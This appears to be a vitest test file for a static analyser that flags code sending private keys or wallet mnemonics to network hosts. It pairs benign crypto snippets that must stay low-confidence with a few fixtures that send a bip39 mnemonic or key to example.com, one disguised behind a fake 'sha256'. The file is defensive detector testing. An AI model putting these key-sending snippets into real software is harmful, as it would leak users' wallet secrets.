import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';

/** Honest code: nothing in it may be more than `low`. */
const CASES: readonly (readonly [what: string, file: string, text: string])[] = [
  [
    'a wallet that sends what it signed',
    'a.js',
    `const { Wallet } = require('ethers'); const axios = require('axios'); exports.pay = async (privateKey, to) => { const w = new Wallet(privateKey); axios.post('https://example.com', { from: w.address, tx: await w.signTransaction({ to }) }) }`,
  ],
  [
    'a signature of a known curve',
    'a.js',
    `import { ed25519 } from '@noble/curves/ed25519'; export const send = (secretKey, m) => fetch('https://example.com', { body: ed25519.sign(m, secretKey) })`,
  ],
  [
    'a public key',
    'a.js',
    `import { secp256k1 } from '@noble/curves/secp256k1'; export const send = (privateKey) => fetch('https://example.com', { body: secp256k1.getPublicKey(privateKey) })`,
  ],
  [
    'a hash of a secret',
    'a.js',
    `const c = require('crypto'); exports.f = (privateKey) => fetch('https://example.com/' + c.createHash('sha256').update(privateKey).digest('hex'))`,
  ],
  ['the size of a key', 'a.js', `exports.f = (privateKey) => fetch('https://example.com/' + privateKey.length)`],
  [
    'a question about a key',
    'a.js',
    `exports.f = (privateKey) => fetch('https://example.com/' + (privateKey === undefined))`,
  ],
  [
    'a token for the program’s own service',
    'a.js',
    `const axios = require('axios'); axios.get('https://api.example.com', { headers: { authorization: process.env.API_TOKEN } })`,
  ],
  ['a single setting of the environment', 'a.js', `fetch(process.env.SERVER_URL + '/' + process.env.NODE_ENV)`],
  [
    'a setting of Python’s environment',
    'a.py',
    `import os, requests\nrequests.get(os.environ.get('SERVER_URL', 'https://example.com'))`,
  ],
  [
    'the environment for another program',
    'a.js',
    `require('child_process').spawn('ls', [], { env: { ...process.env, A: '1' } })`,
  ],
  [
    'the environment for a program of Python',
    'a.py',
    `import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))`,
  ],
  [
    'a client’s certificate',
    'a.js',
    `exports.f = (privateKey) => require('https').request({ host: 'example.com', key: privateKey })`,
  ],
  [
    'a password of a form',
    'a.js',
    `exports.login = (user, password) => fetch('https://example.com/login', { method: 'POST', body: JSON.stringify({ user, password }) })`,
  ],
  [
    'an HTTP client',
    'a.js',
    `exports.get = (url, headers) => fetch(url, { headers }); exports.post = (url, body) => fetch(url, { method: 'POST', body })`,
  ],
  [
    'a request signed with a shared secret',
    'a.js',
    `const c = require('crypto'); exports.call = (secretAccessKey, body) => fetch('https://example.com', { headers: { authorization: c.createHmac('sha256', secretAccessKey).update(body).digest('hex') }, body })`,
  ],
  [
    'random numbers with a seed',
    'a.py',
    `import requests\ndef shuffle(seed):\n    requests.get('https://example.com', params={'seed': seed})`,
  ],
  [
    'an error that names what it was given',
    'a.js',
    `class Wrong extends Error { constructor(v) { super('bad ' + v); this.v = v } } exports.f = (privateKey) => { if (!privateKey) throw new Wrong(privateKey) }; exports.g = (url) => fetch(url).catch(() => { throw new Wrong(url) })`,
  ],
];

describe('honest packages', () => {
  it.each(CASES)('%s', async (_, file, text) => {
    const { flows } = await analyseSources({ [file]: text });
    expect(flows.filter((flow) => flow.confidence !== 'low').map((flow) => flow.key)).toEqual([]);
  });
});

it('is not sure of an end that only a strange library’s name says', async () => {
  const { flows } = await analyseSources({
    'a.js': `exports.f = (k) => { require('bip39').mnemonicToSeed(k); fetch('https://example.com/' + require('strange').sign(k)) }`,
  });
  expect(flows.map((flow) => [flow.confidence, flow.key.endsWith(', perhaps')])).toEqual([['medium', true]]);
});
it('believes no local name that something ends', async () => {
  const { flows } = await analyseSources({
    'a.js': `const sha256 = (x) => x.split('').reverse().join(''); exports.f = (k) => { require('bip39').mnemonicToSeed(k); fetch('https://example.com/' + sha256(k)) }`,
  });
  expect(flows.map((flow) => flow.confidence)).toContain('high');
});
it('is not sure of what is encrypted for somebody who is not known', async () => {
  const { flows } = await analyseSources({
    'a.js': `const c = require('crypto'); exports.backup = (k, owner) => { require('bip39').mnemonicToSeed(k); fetch('https://example.com', { body: c.publicEncrypt(owner, Buffer.from(k)) }) }`,
  });
  expect(flows.map((flow) => flow.confidence)).toEqual(['medium']);
});
it('takes tests for tests', async () => {
  const text = `const b = require('bip39'); exports.f = (k) => { b.mnemonicToSeed(k); fetch('https://example.com/' + k) }`;
  const { flows } = await analyseSources({ 'test/a.test.js': text });
  expect(flows.map((flow) => flow.confidence)).toEqual(['low']);
});
